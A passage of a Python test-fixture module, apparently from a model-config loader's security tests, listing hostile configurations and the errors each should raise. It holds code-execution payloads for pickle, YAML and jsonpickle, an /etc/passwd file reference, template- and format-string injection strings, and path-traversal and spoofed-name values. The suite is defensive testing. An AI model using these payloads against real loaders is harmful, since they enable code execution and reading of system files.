    "_class_name": "conf.C",
    "_module": "conf",
    "py/object": "os.system",
    "py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}],
    "!!python/object/apply:os.system": ["id"],
    "$ref": "http://127.0.0.1:9/x",
    "$schema": "file:///etc/passwd",
    "@type": "java.net.URL",
    "pickle": "Y29zCnN5c3RlbQooUydpZCcKdFIu",
    "architectures": ["os.system", "../conf.M", "conf.M", ""],
    "auto_map_": CODE,
    "AUTO_MAP": CODE,
    "peft_config": {
        "base_model_name_or_path": ".",
        "auto_mapping": {"parent_library": "conf", "base_model_class": "C"},
    },
    "format": "{0.__class__.__init__.__globals__}",
    "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "variant": "../x",
    "subfolder": "../x",
    "config_class": "conf.C",
    "model_class": "os.system",
}

KEYS: dict[str, Repository] = (
    {
        f"the key {key!r}, which would hide a method": Repository(
            {"model_type": "target", key: "conf.C"},
            EVIL_FILES,
            weights=True,
            says=key,
            config_error="ConfigFileError",
            model_error="ConfigFileError",
            code_error=None,
        )
        for key in _METHODS
    }
    | {f"the key {key!r}": inert(EVIL_FILES, **{key: value}) for key, value in _KEYS.items()}
    | {f"the key {key!r} below": inert(EVIL_FILES, anything={key: value}) for key, value in _KEYS.items()}
)
"""Keys that mean something to other programs; here they are data."""

_TYPES: dict[str, Any] = {
    "a path": "../../evil",
    "an absolute path": "/home/evil",
    "a module": "os",
    "a class": "os:system",
    "a lazy class": "conf:C",
    "an object of Python": "conf.C",
    "a package and a name": "nameplate-resnet/../x",
    "a NUL": "target\0",
    "a blank": "target ",
    "another case": "TARGET",
    "another script": "t\u0430rget",
    "a million letters": "t" * 1_000_000,
    "a list": ["target"],
    "an object": {"target": 1},
    "a number": 1,
    "an escape of a terminal": "\x1b[2Jtarget",
    "a surrogate": "\ud800",
    "a pattern": "t*",
    "a format": "{0}%s",
    "a private module": "_nameplate_code_0",
}

TYPES: dict[str, Repository] = {
    f"model_type is {what}": Repository(
        {"model_type": value}, EVIL_FILES, says="", config_error=NOBODY, model_error=NOBODY, code_error=BROKEN
    )
    for what, value in _TYPES.items()
} | {
    f"model_type is {what}, with code": Repository({"model_type": value, "auto_map": CODE}, {"conf.py": EVIL + BOTH})
    for what, value in _TYPES.items()
}
"""What a `model_type` must not lead to."""

# ---- what a caller passes on

_LEAVING = (
    "../x", "..", "/..", "/etc/..", "x/../../y", "C:", "C:\\x", "\\\\server\\share", "x\\..\\..\\y", "a\x00b",
    ".. ", "...", " ", "~/../..",
)  # fmt: skip

OPTIONS: dict[str, Repository] = {
    f"subfolder {text!r}": Repository(
        {"model_type": "target"},
        {"conf.py": EVIL},
        options={"subfolder": text},
        config_error="UnsafePathError",
        model_error="UnsafePathError",
        code_error="UnsafePathError",
    )
    for text in _LEAVING
} | {
    f"variant {text!r}": Repository(
        {"model_type": "target"},
        {"conf.py": EVIL},
        options={"variant": text},
        says="variant",
        config_error="UnknownOptionError",
        model_error="UnsafePathError",
        code_error="UnknownOptionError",
    )
    for text in (*_LEAVING, "a/b", "")
}
"""Paths in what a program may have taken from somebody else."""

EVERY: dict[str, Repository] = {
    **ADVISORIES,
    **REFERENCES,
    **PLACES,
    **SOURCES,
    **RUNNING,
    **BYSTANDERS,
    **KEYS,
    **TYPES,
    **OPTIONS,
}
"""All of them."""
